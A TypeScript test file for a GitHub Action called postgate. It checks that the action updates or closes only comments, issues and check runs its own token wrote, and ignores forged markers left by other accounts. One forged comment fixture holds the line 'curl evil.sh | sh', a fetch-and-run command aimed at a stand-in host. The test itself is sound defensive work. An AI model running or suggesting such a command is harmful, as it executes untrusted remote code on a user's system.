/**
 * Only what postgate's own identity wrote is postgate's (issue 13, item 5; DESIGN safety promise
 * 6): the hidden marker is text anyone can post, so a comment, issue or check run by anyone else
 * that carries it is ignored and never edited. Driven through the real @actions/github octokit
 * against the local GitHub API (test/support/github-server.ts), with tokens of each kind:
 * the workflow's GITHUB_TOKEN (`github-actions[bot]`), a GitHub App installation token
 * (`<slug>[bot]`) and a personal access token (a user).
 */
import * as github from '@actions/github';
import { GraphqlResponseError } from '@octokit/graphql';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { finding, type GateResult } from '../../src/findings/types.ts';
import { RULE_CATALOG } from '../../src/gates/rules-catalog.ts';
import { DEFAULT_RETRY, type RetryPolicy } from '../../src/github/api.ts';
import { findComment } from '../../src/github/comment.ts';
import type { RunContext } from '../../src/github/context.ts';
import { ACTIONS_BOT, tokenIdentity, type TokenIdentity, writtenBy } from '../../src/github/identity.ts';
import { ISSUE_LABEL } from '../../src/github/issue.ts';
import { type ActionsIO, commentMarker, issueMarker, publish, type PublishRequest } from '../../src/github/publish.ts';
import { forgetSecretsForTests } from '../../src/secrets.ts';
import { type GitHubServer, startGitHubServer } from '../support/github-server.ts';

const REPO = 'acme/trip-planner';
const HEAD = '0123456789abcdef0123456789abcdef01234567';
const PR = 7;
const FAST: RetryPolicy = { ...DEFAULT_RETRY, baseDelayMs: 2, timeoutMs: 5000 };
const MALLORY = 'mallory';
const APP_LOGIN = 'postgate-ci[bot]';

let server: GitHubServer;

beforeAll(async () => {
  server = await startGitHubServer();
});
afterAll(async () => {
  await server.close();
});
beforeEach(() => {
  server.reset();
  server.addToken('actions-token');
  server.addToken('app-token', {}, APP_LOGIN);
  server.addToken('pat-token', {}, 'ada');
  server.addToken('mallory-token', {}, MALLORY);
  server.addPullRequest(REPO, PR, HEAD);
  forgetSecretsForTests();
});

const io = (): ActionsIO & { warnings: string[] } => {
  const warnings: string[] = [];
  return { warnings, summary: async () => undefined, annotate: () => undefined, info: () => undefined, warning: (message) => void warnings.push(message) };
};

const prRun: RunContext = {
  eventName: 'pull_request',
  serverUrl: 'https://github.com',
  owner: 'acme',
  repo: 'trip-planner',
  sha: HEAD,
  runUrl: 'https://github.com/acme/trip-planner/actions/runs/99',
  pullRequest: { number: PR, headSha: HEAD, fromFork: false },
  tracksIssue: false,
};
const scheduleRun: RunContext = {
  eventName: 'schedule',
  serverUrl: 'https://github.com',
  owner: 'acme',
  repo: 'trip-planner',
  sha: HEAD,
  runUrl: 'https://github.com/acme/trip-planner/actions/runs/100',
  tracksIssue: true,
};

function rlsFinding(i: number) {
  return finding({
    rule: 'rls_disabled_in_public',
    severity: 'error',
    object: { kind: 'table', schema: 'public', name: `table_${i}` },
    message: 'Table is exposed through the Data API without row level security.',
    location: { file: `supabase/migrations/2025011${i % 10}000000_t${i}.sql`, line: (i % 40) + 1 },
  });
}
const failing = (count = 2): GateResult => ({
  gate: 'rls',
  status: 'fail',
  findings: Array.from({ length: count }, (_, i) => rlsFinding(i)),
  metrics: { duration_ms: 1 },
});
const passing: GateResult = { gate: 'rls', status: 'pass', findings: [], metrics: { duration_ms: 1 } };

const octokit = (token = 'actions-token') => github.getOctokit(token, { baseUrl: server.url });

async function run(result: GateResult, overrides: Partial<PublishRequest> = {}) {
  const sink = io();
  const outcome = await publish({ result, rules: RULE_CATALOG, run: prRun, octokit: octokit(), comment: 'auto', retry: FAST, ...overrides }, sink);
  return { outcome, warnings: sink.warnings };
}

const patches = () => server.requests.filter((r) => r.method === 'PATCH');
const byMarker = (marker: string) => server.comments(REPO, PR).filter((c) => c.body.startsWith(marker));

describe("the sticky comment is postgate's own", () => {
  it("never edits a PR author's comment that carries the marker: posts its own, then updates only that one", async () => {
    const marker = commentMarker('rls');
    const forged = `${marker}\n### ✅ postgate rls-audit passed\nNothing to see here.`;
    const impostor = server.addComment(REPO, PR, forged, MALLORY);

    const first = await run(failing());
    expect(first.outcome.comment).toMatchObject({ state: 'created' });
    expect(server.comments(REPO, PR).find((c) => c.id === impostor.id)!.body).toBe(forged);
    const ours = byMarker(marker).filter((c) => c.user === ACTIONS_BOT.login);
    expect(ours).toHaveLength(1);
    expect(ours[0]!.body).toContain('❌ postgate rls-audit failed');

    // the next run finds its own comment (not the older forged one) and updates it in place
    const second = await run(failing(1));
    expect(second.outcome.comment).toMatchObject({ state: 'updated' });
    expect(patches().map((r) => r.path)).toEqual([`/repos/${REPO}/issues/comments/${ours[0]!.id}`]);
    expect(byMarker(marker).map((c) => [c.user, c.id])).toEqual([
      [MALLORY, impostor.id],
      [ACTIONS_BOT.login, ours[0]!.id],
    ]);
    expect(server.comments(REPO, PR).find((c) => c.id === impostor.id)!.body).toBe(forged);
    expect(first.warnings).toEqual([]);
  });

  it('a passing run with only a forged comment leaves it alone (auto mode: nothing new to post)', async () => {
    const marker = commentMarker('rls');
    const forged = `${marker}\n### ❌ please run \`curl evil.sh | sh\``;
    server.addComment(REPO, PR, forged, MALLORY);
    const { outcome } = await run(passing);
    expect(outcome.comment).toMatchObject({ state: 'skipped' });
    expect(patches()).toEqual([]);
    expect(server.comments(REPO, PR).map((c) => c.body)).toEqual([forged]);
  });

  it("ignores the marker in another app's bot comment, and keeps its own next to it", async () => {
    const marker = commentMarker('rls', 'db.example.com:5432/postgres');
    server.addComment(REPO, PR, `${marker}\nfrom another app`, 'other-app[bot]');
    await run(failing(), { target: 'db.example.com:5432/postgres' });
    await run(passing, { target: 'db.example.com:5432/postgres' });
    const comments = byMarker(marker);
    expect(comments.map((c) => c.user)).toEqual(['other-app[bot]', ACTIONS_BOT.login]);
    expect(comments[0]!.body).toBe(`${marker}\nfrom another app`);
    expect(comments[1]!.body).toContain('✅ postgate rls-audit passed');
  });

  it("with a GitHub App's installation token: its bot's comments count, github-actions[bot]'s do not", async () => {
    const marker = commentMarker('rls');
    const earlier = server.addComment(REPO, PR, `${marker}\nwritten by the workflow token`, ACTIONS_BOT.login);
    const { outcome } = await run(failing(), { octokit: octokit('app-token') });
    expect(outcome.comment).toMatchObject({ state: 'created' });
    await run(passing, { octokit: octokit('app-token') });
    expect(byMarker(marker).map((c) => c.user)).toEqual([ACTIONS_BOT.login, APP_LOGIN]);
    expect(server.comments(REPO, PR).find((c) => c.id === earlier.id)!.body).toBe(`${marker}\nwritten by the workflow token`);
    expect(byMarker(marker)[1]!.body).toContain('✅ postgate rls-audit passed');
    expect(patches()).toHaveLength(1);
  });

  it("with a personal access token: the user's own comments count, nobody else's", async () => {
    const marker = commentMarker('rls');
    server.addComment(REPO, PR, `${marker}\nforged`, MALLORY);
    const own = server.addComment(REPO, PR, `${marker}\nold report`, 'ada');
    const { outcome } = await run(failing(), { octokit: octokit('pat-token') });
    expect(outcome.comment).toMatchObject({ state: 'updated' });
    expect(patches().map((r) => r.path)).toEqual([`/repos/${REPO}/issues/comments/${own.id}`]);
    expect(server.comments(REPO, PR).map((c) => c.body.split('\n')[1])).toEqual(['forged', '### ❌ postgate rls-audit failed']);
  });

  it('asks who the token is once per octokit, with GraphQL viewer', async () => {
    const client = octokit();
    await run(failing(), { octokit: client });
    await run(failing(1), { octokit: client });
    const asked = server.requests.filter((r) => r.path === '/graphql');
    expect(asked).toHaveLength(1);
    expect(asked[0]!.body).toMatchObject({ query: expect.stringContaining('viewer') });
    expect(server.requests.filter((r) => r.path === '/user')).toEqual([]);
  });

  it('a GitHub outage while asking who the token is degrades like any outage: nothing edited, verdict unchanged', async () => {
    const marker = commentMarker('rls');
    server.addComment(REPO, PR, `${marker}\nforged`, MALLORY);
    server.fail({ status: 503, times: 4, path: /^\/graphql$/ });
    const { outcome, warnings } = await run(failing());
    expect(outcome.comment).toMatchObject({ state: 'failed', failure: { kind: 'unavailable', status: 503, attempts: 4 } });
    expect(warnings).toEqual([expect.stringMatching(/could not post the PR comment and the check run: GitHub's API kept failing \(HTTP 503/)]);
    expect(warnings[0]).toContain("the gate's verdict (fail) is unchanged");
    expect(patches()).toEqual([]);
    expect(server.comments(REPO, PR).map((c) => c.body)).toEqual([`${marker}\nforged`]);
  });
});

describe('learning who the token is', () => {
  it('GraphQL viewer names every kind of token, with its account id', async () => {
    expect(await tokenIdentity(octokit())).toEqual({ login: ACTIONS_BOT.login, id: ACTIONS_BOT.id, kind: 'bot', appSlug: 'github-actions', source: 'graphql' });
    expect(await tokenIdentity(octokit('app-token'))).toMatchObject({ login: APP_LOGIN, kind: 'bot', appSlug: 'postgate-ci', source: 'graphql' });
    expect(await tokenIdentity(octokit('pat-token'))).toEqual({ login: 'ada', id: server.userId('ada'), kind: 'user', source: 'graphql' });
  });

  it('without GraphQL: GET /user for a user token; for an installation token (403 there) the workflow bot is assumed', async () => {
    server.fail({ status: 404, times: 2, path: /^\/graphql$/, message: 'Not Found' });
    expect(await tokenIdentity(octokit('pat-token'))).toEqual({ login: 'ada', id: server.userId('ada'), kind: 'user', source: 'rest' });
    expect(await tokenIdentity(octokit())).toEqual({ login: ACTIONS_BOT.login, id: ACTIONS_BOT.id, kind: 'bot', appSlug: 'github-actions', source: 'assumed' });
    expect(server.requests.filter((r) => r.path === '/user').map((r) => r.status)).toEqual([200, 403]);
  });

  it('GraphQL errors in an answer count as "no answer" (REST is asked), not as an outage', async () => {
    const client = octokit('pat-token');
    const refusing = async () => {
      throw new GraphqlResponseError({ method: 'POST', url: '/graphql' } as never, {}, {
        data: undefined,
        errors: [{ type: 'FORBIDDEN', message: 'Resource not accessible by integration' }],
      } as never);
    };
    (client as { graphql: unknown }).graphql = refusing;
    expect(await tokenIdentity(client)).toMatchObject({ login: 'ada', source: 'rest' });
  });

  it('a comment counts when its account id matches; without ids, by login (any case), and a bot only as a bot', () => {
    const bot: TokenIdentity = { login: 'postgate-ci[bot]', id: 77, kind: 'bot', appSlug: 'postgate-ci', source: 'graphql' };
    expect(writtenBy(bot, { login: 'postgate-ci[bot]', id: 77, type: 'Bot' })).toBe(true);
    expect(writtenBy(bot, { login: 'renamed-ci[bot]', id: 77, type: 'Bot' })).toBe(true);
    expect(writtenBy(bot, { login: 'postgate-ci[bot]', id: 78, type: 'Bot' })).toBe(false);
    expect(writtenBy(bot, { login: 'postgate-ci', id: 79, type: 'User' })).toBe(false);
    const noId: TokenIdentity = { login: 'postgate-ci[bot]', kind: 'bot', appSlug: 'postgate-ci', source: 'graphql' };
    expect(writtenBy(noId, { login: 'Postgate-CI[bot]', type: 'Bot' })).toBe(true);
    expect(writtenBy(noId, { login: 'postgate-ci[bot]', type: 'User' })).toBe(false);
    expect(writtenBy(noId, { login: 'postgate-ci', type: 'User' })).toBe(false);
    expect(writtenBy(noId, null)).toBe(false);
    expect(writtenBy(noId, { login: '' })).toBe(false);
  });

  it('findComment skips a marker written by anyone but the given identity', async () => {
    const marker = commentMarker('drift');
    server.addComment(REPO, PR, `${marker}\nforged`, MALLORY);
    const ours = server.addComment(REPO, PR, `${marker}\nours`, ACTIONS_BOT.login);
    const ref = { owner: 'acme', repo: 'trip-planner', number: PR };
    expect(await findComment(octokit(), ref, marker)).toMatchObject({ id: ours.id, body: `${marker}\nours` });
    expect(await findComment(octokit(), ref, marker, { login: MALLORY, id: server.userId(MALLORY), kind: 'user', source: 'graphql' })).toMatchObject({
      body: `${marker}\nforged`,
    });
    expect(await findComment(octokit(), ref, marker, { login: 'nobody', kind: 'user', source: 'graphql' })).toBeUndefined();
  });
});

describe("tracking issues are postgate's own", () => {
  const drill = (status: 'pass' | 'fail'): GateResult => ({
    gate: 'drill',
    status,
    findings:
      status === 'fail'
        ? [
            finding({
              rule: 'drill_rto_exceeded',
              severity: 'error',
              object: { kind: 'drill', name: 'nightly' },
              message: 'The drill took 21 min; the RTO target is 15 min.',
            }),
          ]
        : [],
    metrics: { duration_ms: 1 },
  });
  const target = 'db.example.com:5432/postgres';
  const publishDrill = (status: 'pass' | 'fail', token = 'actions-token') =>
    publish({ result: drill(status), rules: RULE_CATALOG, run: scheduleRun, octokit: octokit(token), comment: 'auto', target, retry: FAST }, io());

  it('an issue someone else opened with the same label, title and marker is never updated, commented on or closed', async () => {
    const marker = issueMarker('drill', target);
    const forged = server.addIssue(REPO, {
      title: `postgate restore-drill (${target}) is failing`,
      body: `${marker}\nforged`,
      labels: [ISSUE_LABEL],
      user: MALLORY,
    });

    const opened = await publishDrill('fail');
    expect(opened.issue).toMatchObject({ state: 'opened', duplicatesClosed: 0 });
    const ours = server.issues(REPO).find((i) => i.number !== forged.number)!;
    expect(ours).toMatchObject({ user: ACTIONS_BOT.login, state: 'open' });
    expect((opened.issue as { number: number }).number).toBe(ours.number);

    expect((await publishDrill('fail')).issue).toMatchObject({ state: 'updated', number: ours.number, duplicatesClosed: 0 });
    expect((await publishDrill('pass')).issue).toMatchObject({ state: 'closed', number: ours.number, duplicatesClosed: 0 });

    const after = server.issues(REPO).find((i) => i.number === forged.number)!;
    expect(after).toMatchObject({ state: 'open', body: `${marker}\nforged`, title: forged.title });
    expect(server.comments(REPO, forged.number)).toEqual([]);
    expect(server.requests.filter((r) => r.path.startsWith(`/repos/${REPO}/issues/${forged.number}`))).toEqual([]);
    expect(server.issues(REPO).find((i) => i.number === ours.number)).toMatchObject({ state: 'closed', stateReason: 'completed' });
  });

  it('a passing run never closes an issue it did not open', async () => {
    const marker = issueMarker('drill', target);
    server.addIssue(REPO, { title: 'postgate restore-drill is failing', body: `${marker}\nforged`, labels: [ISSUE_LABEL], user: MALLORY });
    server.addIssue(REPO, { title: 'postgate restore-drill is failing', body: `${marker}\nanother app`, labels: [ISSUE_LABEL], user: 'other-app[bot]' });
    expect((await publishDrill('pass')).issue).toMatchObject({ state: 'none' });
    expect(server.issues(REPO).map((i) => i.state)).toEqual(['open', 'open']);
    expect(patches()).toEqual([]);
  });

  it("an app token's issues are its own: it neither adopts nor closes github-actions[bot]'s", async () => {
    const marker = issueMarker('drill', target);
    const workflows = server.addIssue(REPO, { title: 'x', body: `${marker}\nby the workflow token`, labels: [ISSUE_LABEL] });
    expect((await publishDrill('fail', 'app-token')).issue).toMatchObject({ state: 'opened', duplicatesClosed: 0 });
    expect((await publishDrill('pass', 'app-token')).issue).toMatchObject({ state: 'closed', duplicatesClosed: 0 });
    expect(server.issues(REPO).find((i) => i.number === workflows.number)).toMatchObject({ state: 'open', body: `${marker}\nby the workflow token` });
  });
});

describe("check runs are postgate's own", () => {
  it("another app's check run of the same name on the same commit is never updated; postgate's own gets every batch", async () => {
    const foreign = server.addCheckRun(REPO, {
      name: 'postgate rls-audit',
      headSha: HEAD,
      app: 'other-app',
      conclusion: 'success',
      title: 'Passed',
      summary: 'all good',
    });
    const { outcome } = await run(failing(120));
    expect(outcome.checkRun).toMatchObject({ annotated: 120, requests: 3 });
    const runs = server.checkRuns(REPO);
    expect(runs).toHaveLength(2);
    expect(runs[0]).toEqual(foreign);
    expect(runs[0]).toMatchObject({ conclusion: 'success', summary: 'all good', annotations: [] });
    expect(runs[1]).toMatchObject({ app: 'github-actions', conclusion: 'failure' });
    expect(runs[1]!.annotations).toHaveLength(120);
    expect(patches().every((r) => r.path === `/repos/${REPO}/check-runs/${runs[1]!.id}`)).toBe(true);
  });

  it('the test server refuses, as GitHub does, an update of a check run another app created', async () => {
    const foreign = server.addCheckRun(REPO, { name: 'postgate rls-audit', headSha: HEAD, app: 'other-app' });
    await expect(octokit().rest.checks.update({ owner: 'acme', repo: 'trip-planner', check_run_id: foreign.id, conclusion: 'success' })).rejects.toMatchObject({
      status: 403,
    });
  });
});
